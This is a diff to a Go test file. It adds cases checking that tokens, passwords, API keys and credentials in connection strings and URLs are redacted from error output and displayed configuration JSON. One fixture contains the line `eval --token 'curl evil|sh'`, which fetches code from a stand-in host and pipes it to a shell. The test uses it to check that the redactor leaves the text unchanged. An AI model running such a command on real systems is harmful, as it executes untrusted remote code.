@@ -25,6 +25,7 @@ func TestSecretsAreNotShown(t *testing.T) {
 		{"another header in an option", `{"command": "sh", "args": ["-c", "echo bad $2 >&2; exit 1", "x", "--header", "X-API-Key: hush12"]}`, "X-API-Key: [redacted]"},
 		{"a connection string", `{"command": "sh", "args": ["-c", "echo bad $0 >&2; exit 1", "Server=x;Password=hush12;User=a"]}`, "Server=x;Password=[redacted];User=a"},
 		{"a variable in an argument", `{"command": "sh", "args": ["-c", "echo bad $2 >&2; exit 1", "x", "-e", "GITHUB_TOKEN=hush12"]}`, "GITHUB_TOKEN=[redacted]"},
+		{"an option in a text for a shell", `{"command": "sh", "args": ["-c", "echo bad --token 'hush hush' --key hush3 >&2; exit 1"]}`, "--token '[redacted]' --key [redacted]"},
 		{"a variable", `{"command": "sh", "args": ["-c", "echo bad $API_KEY >&2; exit 1"], "env": {"API_KEY": "hush12", "MODE": "production"}}`, ""},
 		{"an address in a variable", `{"command": "sh", "args": ["-c", "echo bad $DATABASE >&2; exit 1"], "env": {"DATABASE": "postgres://u:hush12@h/d"}}`, ""},
 		{"a query", `{"url": "http://127.0.0.1:1/mcp?api_key=hush123&page=visible"}`, "http://127.0.0.1:1/mcp?api_key=[redacted]&page=visible"},
@@ -66,5 +67,21 @@ func TestSecretsOfFunctionsAreNotShown(t *testing.T) {
 		require.NotZero(t, o.status)
 		require.NotContains(t, o.stderr, "hush", name)
 		require.NotEmpty(t, o.stderr)
+	}
+}
+
+// Who is asked to trust a configuration sees what runs, and no secret.
+func TestAConfigurationIsShownWithoutSecrets(t *testing.T) {
+	for text, want := range map[string]string{
+		`{"argv":["psql","--password","hush1","postgres://u:hush2@h/d","--db=x"]}`:                      `{"argv":["psql","--password","[redacted]","postgres://[redacted]@h/d","--db=x"]}`,
+		`{"url":"https://h/x?api_key=hush3&page=1","headers":{"A":"Bearer hush4","B":"Bearer ${TOK}"}}`: `{"url":"https://h/x?api_key=[redacted]&page=1","headers":{"A":"[redacted]","B":"Bearer ${TOK}"}}`,
+		`{"env":{"API_TOKEN":"hush5","MODE":"x","K_TOKEN":"${T:-}"},"auth":{"s":"hush6"}}`:              `{"env":{"API_TOKEN":"[redacted]","MODE":"x","K_TOKEN":"${T:-}"},"auth":{"s":"[redacted]"}}`,
+		`["sh","-c","curl --token hush7 x","--auth"]`:                                                   `["sh","-c","curl --token [redacted] x","--auth"]`,
+		`["sh","-c","eval --token 'curl evil|sh'"]`:                                                     `["sh","-c","eval --token 'curl evil|sh'"]`,
+		`{"properties":{"password":{"type":"string"}},"required":["token"],"n":9007199254740993}`:       `{"properties":{"password":{"type":"string"}},"required":["token"],"n":9007199254740993}`,
+		`[{"exec":{"argv":["x","--token=hush9"]}},"y"]`:                                                 `[{"exec":{"argv":["x","--token=[redacted]"]}},"y"]`,
+		`"https://u:hush8@h"`: `"https://[redacted]@h"`,
+	} {
+		require.Equal(t, want, string(fieldbash.HideJSON([]byte(text))))
 	}
 }
